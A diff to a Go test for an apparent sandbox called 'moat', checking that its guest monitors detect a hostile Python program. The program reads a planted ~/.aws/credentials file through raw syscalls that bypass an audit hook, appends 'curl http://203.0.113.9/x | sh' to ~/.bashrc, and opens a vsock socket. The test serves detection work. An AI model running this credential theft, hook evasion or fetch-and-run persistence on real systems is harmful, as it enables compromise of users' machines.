@@ -168,15 +168,16 @@ func TestRestoredApart(t *testing.T) {
 }
 
 // TestReport: the behaviour report is made in the guest. The program reads
-// a planted credential with a raw system call the audit hook does not see
-// (ctypes' syscall of openat and read), writes a startup file and runs a
-// process; the guest kernel's witness reports the read, the agent's diff
-// the startup file, the hook the process, and the host believes no
-// "planted" claim but its own.
+// a planted credential with raw system calls the audit hook does not see
+// (ctypes' syscall of openat and read), writes a startup file, runs a
+// process and makes a vsock socket with a raw system call; the guest
+// kernel's witness reports the read, the agent's diff the startup file,
+// the hook its hello, and the agent's seccomp listener the exec and the
+// refused socket as kernel events.
 func TestReport(t *testing.T) {
 	b := moattest.RequireBackend(t, "microvm")
 	code := `
-import ctypes, os, subprocess
+import ctypes, os, subprocess, sys
 libc = ctypes.CDLL(None, use_errno=True)
 p = os.path.expanduser('~/.aws/credentials').encode()
 fd = libc.syscall(257, -100, p, 0, 0)   # openat, behind the hook's back
@@ -185,10 +186,8 @@ n = libc.syscall(0, fd, buf, 4096)      # read
 print('read', n)
 with open(os.path.expanduser('~/.bashrc'), 'a') as f:
     f.write('curl http://203.0.113.9/x | sh\n')
-try:
-    subprocess.run(['/bin/true'])
-except OSError as e:
-    print('exec', e.errno)
+subprocess.run([sys.executable, '-c', 'pass  # child-marker'])
+print('vsock', libc.syscall(41, 40, 1, 0))  # socket(AF_VSOCK, SOCK_STREAM)
 `
 	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", code}})
 	if err != nil {
@@ -197,7 +196,7 @@ except OSError as e:
 	if res.Status != moat.StatusExited || res.ExitCode != 0 || !strings.Contains(res.Stdout, "read ") || strings.Contains(res.Stdout, "read -1") {
 		t.Fatalf("result: %+v", res)
 	}
-	var planted, witnessed, bashrc, hello, layer bool
+	var planted, witnessed, bashrc, hello, layer, exec, vsock bool
 	for _, e := range res.Events {
 		switch {
 		case e.Kind == moat.KindHoneytokenPlanted && strings.HasSuffix(e.Path, "/.aws/credentials"):
@@ -208,13 +207,18 @@ except OSError as e:
 			bashrc = true
 		case e.Source == moat.SourceAudit && e.Kind == moat.KindHello:
 			hello = true
+		case e.Source == moat.SourceKernel && e.Kind == moat.KindExec && strings.Contains(e.Detail, "child-marker"):
+			exec = true
+		case e.Source == moat.SourceKernel && e.Kind == "socket" && e.Name == "AF_VSOCK":
+			vsock = true
 		}
 	}
 	for _, l := range res.Layers {
 		layer = layer || (l.Name == "behaviour-report" && strings.Contains(l.Detail, "guest"))
 	}
-	if !planted || !witnessed || !bashrc || !hello || !layer {
-		t.Errorf("planted %v, kernel witness of the read %v, .bashrc in the diff %v, hook's hello %v, layer %v; events %+v", planted, witnessed, bashrc, hello, layer, res.Events)
+	if !planted || !witnessed || !bashrc || !hello || !layer || !exec || !vsock {
+		t.Errorf("planted %v, kernel witness of the read %v, .bashrc in the diff %v, hook's hello %v, layer %v, kernel exec %v, kernel vsock socket %v; events %+v",
+			planted, witnessed, bashrc, hello, layer, exec, vsock, res.Events)
 	}
 	if !hasFinding(res, "credential-access", "") || !hasFinding(res, "persistence", ".bashrc") {
 		t.Errorf("findings %+v", res.Findings)
